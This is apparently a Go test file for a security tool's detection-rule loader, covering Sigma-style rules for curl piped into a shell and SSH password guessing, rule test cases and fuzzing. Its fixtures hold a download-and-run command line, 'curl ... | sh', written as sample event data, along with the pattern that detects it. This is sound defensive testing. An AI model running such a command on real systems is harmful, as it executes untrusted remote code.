package ruleset_test

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/vigilsec/vigil/internal/detect/ruleset"
	"github.com/vigilsec/vigil/internal/event"
)

const (
	curlID  = "11111111-1111-4111-8111-111111111111"
	failID  = "22222222-2222-4222-8222-222222222222"
	bruteID = "33333333-3333-4333-8333-333333333333"
	infoID  = "44444444-4444-4444-8444-444444444444"
)

var files = fstest.MapFS{
	"linux/curl.yml": {Data: []byte(`title: Download piped into a shell
id: ` + curlID + `
status: test
description: curl output run by a shell
author: Vigil
level: high
tags: [attack.execution, attack.t1059.004, attack.T1105]
falsepositives: [installers such as rustup]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|contains|all: ['curl ', '| sh']
  condition: selection
`)},
	"linux/curl.test.yml": {Data: []byte(`cases:
  - name: curl piped into sh
    events:
      - event: {category: process, action: exec}
        process: {executable: /usr/bin/bash, command_line: "bash -c curl -s https://x.example/i | sh"}
    alerts:
      - rule: ` + curlID + `
        count: 1
  - name: curl alone
    events:
      - event: {category: process, action: exec}
        process: {executable: /usr/bin/curl, command_line: "curl -O https://x.example/file"}
    alerts: []
`)},
	"linux/ssh.yml": {Data: []byte(`title: SSH login failed
id: ` + failID + `
name: login_failed
status: test
description: a failure
author: Vigil
level: low
tags: [attack.t1110]
falsepositives: [typos]
logsource: {product: linux, service: authlog}
detection:
  selection: {event.action: login-failed}
  condition: selection
---
title: Password guessing
id: ` + bruteID + `
status: test
level: high
tags: [attack.t1110.001]
correlation:
  type: event_count
  rules: [login_failed]
  group-by: [source.ip]
  timespan: 1m
  condition: {gte: 3}
`)},
	"linux/ssh.test.yml": {Data: []byte(`cases:
  - name: three failures in a minute
    events:
      - {event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.1}}
      - {after: 10s, event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.1}}
      - {after: 10s, event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.1}}
    alerts:
      - rule: ` + bruteID + `
        count: 1
  - name: three failures in three minutes
    events:
      - {event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.1}}
      - {after: 90s, event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.1}}
      - {after: 90s, event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.1}}
    alerts: []
`)},
	"linux/info.yml": {Data: []byte(`title: Shell started
id: ` + infoID + `
status: test
level: informational
tags: [attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  selection: {Image|endswith: /bash}
  condition: selection
`)},
	"linux/broken.yml": {Data: []byte(`title: Windows only
id: 55555555-5555-4555-8555-555555555555
logsource: {product: windows, category: process_creation}
detection:
  selection: {Image|endswith: '\cmd.exe'}
  condition: selection
`)},
	"linux/bad_field.yml": {Data: []byte(`title: Unknown field
id: 66666666-6666-4666-8666-666666666666
logsource: {product: linux, category: process_creation}
detection:
  selection: {Hashes|contains: 'abc'}
  condition: selection
`)},
}

func load(t *testing.T, settings map[string]ruleset.Setting) *ruleset.RuleSet {
	t.Helper()
	return ruleset.Load([]ruleset.Source{{Name: "builtin", FS: files, Root: "."}}, ruleset.Options{Settings: settings})
}

func TestLoad(t *testing.T) {
	rs := load(t, nil)
	var problems []string
	for _, p := range rs.Problems {
		problems = append(problems, p.File)
		if p.Line == 0 || p.Reason == "" || !strings.HasPrefix(p.Error(), p.File+":") {
			t.Errorf("problem without position or reason: %+v", p)
		}
	}
	if !slices.Equal(problems, []string{"linux/bad_field.yml", "linux/broken.yml"}) {
		t.Errorf("problems in %v", problems)
	}
	byID := map[string]*ruleset.Rule{}
	for _, r := range rs.Rules {
		byID[r.ID] = r
	}
	if len(byID) != 4 || rs.Loaded() != 4 {
		t.Fatalf("loaded %d rules: %v", len(byID), byID)
	}
	tests := []struct {
		id                 string
		kind               string
		alerts, correlated bool
		techniques         []string
	}{
		{curlID, ruleset.KindDetection, true, false, []string{"T1059.004", "T1105"}},
		{failID, ruleset.KindDetection, false, true, []string{"T1110"}},
		{bruteID, ruleset.KindCorrelation, true, false, []string{"T1110.001"}},
		{infoID, ruleset.KindDetection, false, false, []string{"T1059.004"}},
	}
	for _, tc := range tests {
		r := byID[tc.id]
		if r.Kind != tc.kind || r.Alerts != tc.alerts || r.Correlated != tc.correlated || !slices.Equal(r.Techniques, tc.techniques) || r.Source != "builtin" {
			t.Errorf("%s: %+v", tc.id, r)
		}
	}
}

func TestSettings(t *testing.T) {
	rs := load(t, map[string]ruleset.Setting{curlID: {Disabled: true}, infoID: {Level: "medium"}})
	ev := event.Event{}
	ev.Set("event.id", "e1")
	ev.Set("@timestamp", "2026-03-02T09:00:00Z")
	ev.Set("event.category", "process")
	ev.Set("event.action", "exec")
	ev.Set("process.executable", "/usr/bin/bash")
	ev.Set("process.command_line", "bash -c curl -s https://x.example/i | sh")
	_, out := rs.Evaluate(ev, nil, nil)
	var ids []string
	for _, d := range out {
		ids = append(ids, d.Rule.ID)
	}
	// The curl rule is off; the informational rule, raised to medium,
	// alerts.
	if !slices.Equal(ids, []string{infoID}) {
		t.Errorf("detections %v", ids)
	}
	if rs.Loaded() != 3 {
		t.Errorf("loaded %d", rs.Loaded())
	}
}

func TestRunTests(t *testing.T) {
	rs := load(t, nil)
	results := ruleset.RunTests(rs, files, ".")
	if len(results) != 4 {
		t.Fatalf("%d results", len(results))
	}
	for _, r := range results {
		if r.Err != nil {
			t.Errorf("%s:%d %s: %v", r.File, r.Line, r.Case, r.Err)
		}
	}
	// A case that expects what does not happen fails, saying what fired.
	tf, err := ruleset.ParseTestFile([]byte(`cases:
  - name: wrong
    events:
      - event: {category: process, action: exec}
        process: {executable: /usr/bin/bash, command_line: "bash -c curl x | sh"}
    alerts:
      - rule: ` + bruteID + `
`))
	if err != nil {
		t.Fatal(err)
	}
	r := rs.RunCase(tf.Cases[0])
	if r.Err == nil || !strings.Contains(r.Err.Error(), bruteID+" did not fire") || !strings.Contains(r.Err.Error(), curlID+" (Download piped into a shell) fired 1 times unexpectedly") {
		t.Errorf("error %v", r.Err)
	}
}

func TestParseTestFileErrors(t *testing.T) {
	tests := []struct{ name, text, want string }{
		{"empty", ``, "test file"},
		{"no cases", `cases: []`, "no cases"},
		{"unknown key", "cases:\n  - name: x\n    event: []\n", "field event not found"},
		{"no name", "cases:\n  - events: [{a: 1}]\n", "has no name"},
		{"no events", "cases:\n  - name: x\n", "has no events"},
		{"alert without rule", "cases:\n  - name: x\n    events: [{a: 1}]\n    alerts: [{count: 1}]\n", "needs a rule id"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ruleset.ParseTestFile([]byte(tc.text))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %v, want %q", err, tc.want)
			}
		})
	}
	// A bad event is the case's failure, not a panic.
	tf, err := ruleset.ParseTestFile([]byte("cases:\n  - name: x\n    events: [{after: soon}]\n"))
	if err != nil {
		t.Fatal(err)
	}
	if r := load(t, nil).RunCase(tf.Cases[0]); r.Err == nil || !strings.Contains(r.Err.Error(), "after") {
		t.Errorf("error %v", r.Err)
	}
}

func FuzzTestFile(f *testing.F) {
	f.Add([]byte(files["linux/curl.test.yml"].Data))
	f.Add([]byte(files["linux/ssh.test.yml"].Data))
	f.Add([]byte("cases:\n  - name: x\n    events: [{after: 1h, '@timestamp': nope}]\n"))
	rs := ruleset.Load([]ruleset.Source{{Name: "builtin", FS: files, Root: "."}}, ruleset.Options{})
	f.Fuzz(func(t *testing.T, data []byte) {
		tf, err := ruleset.ParseTestFile(data)
		if err != nil {
			return
		}
		if len(tf.Cases) > 20 {
			return
		}
		for _, c := range tf.Cases {
			if len(c.Events) > 50 {
				return
			}
			_ = rs.RunCase(c)
		}
	})
}

// TestReferencesAcrossSources: an imported correlation may use a shipped
// rule.
func TestReferencesAcrossSources(t *testing.T) {
	imported := fstest.MapFS{"mine.yml": {Data: []byte(`title: Two failures
id: 77777777-7777-4777-8777-777777777777
status: test
level: medium
tags: [attack.t1110]
correlation:
  type: event_count
  rules: [login_failed]
  group-by: [source.ip]
  timespan: 1m
  condition: {gte: 2}
`)}}
	rs := ruleset.Load([]ruleset.Source{
		{Name: "builtin", FS: files, Root: "."},
		{Name: "imported", FS: imported, Root: "."},
	}, ruleset.Options{})
	for _, p := range rs.Problems {
		if p.Source == "imported" {
			t.Errorf("imported: %s", p.Error())
		}
	}
	found := false
	for _, r := range rs.Rules {
		found = found || r.ID == "77777777-7777-4777-8777-777777777777" && r.Source == "imported"
	}
	if !found {
		t.Error("the imported correlation is not loaded")
	}
}
